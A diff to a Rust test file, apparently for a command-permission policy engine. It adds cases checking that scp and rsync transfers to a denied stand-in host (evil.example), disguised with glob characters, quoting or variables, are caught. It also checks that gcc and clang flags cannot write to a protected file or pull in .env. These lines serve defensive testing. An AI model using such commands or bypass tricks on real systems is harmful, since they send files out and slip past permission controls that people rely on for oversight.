@@ -623,14 +623,21 @@ fn a_pattern_that_finds_nothing_is_its_own_text_and_may_name_another_machine() {
         );
     }
     let fetches = own(
-        r#"{"effect":"allow","commands":["git","rsync","curl"],"writes":["**"]},{"effect":"deny","urls":["evil.example"]}"#,
+        r#"{"effect":"allow","commands":["git","rsync","scp","curl"],"writes":["**"]},{"effect":"deny","urls":["evil.example"]}"#,
     );
+    fs::write(house.root.join("project/evil.example:x"), "").unwrap();
     tried(
         &started(&house, &fetches, "project"),
         &[
             "git clone us?r@evil.example:x",
             "git clone ssh://us?r@evil.example/x",
             "curl https://evil.example/?*",
+            "scp a.c us?r@evil.example:x",
+            "scp a.c 'us?r@evil.example:x'",
+            "scp a.c 'us#r@evil.example:x'",
+            "scp a.c evil.ex?mple:x",
+            "scp a.c *x",
+            "rsync a.c \"$x\"",
         ],
         &[],
     );
@@ -1270,6 +1277,10 @@ fn each_way_to_name_a_file_to_a_compiler_meets_a_deny() {
             "gcc -Xlinker -ovictim.txt a.c",
             "gcc -Xpreprocessor -MFvictim.txt a.c",
             "gcc -fopt-info-vec=victim.txt a.c",
+            "gcc --for-linker=-ovictim.txt a.c",
+            "gcc --for-assembler=-ovictim.txt a.c",
+            "gcc -dumpdir vic -dumpbase tim.txt -save-temps a.c",
+            "clang --config=x a.c",
             "gcc -fdump-tree-all=victim.txt a.c",
             "clang -serialize-diagnostics victim.txt a.c",
             "gcc -E -include .env a.c",
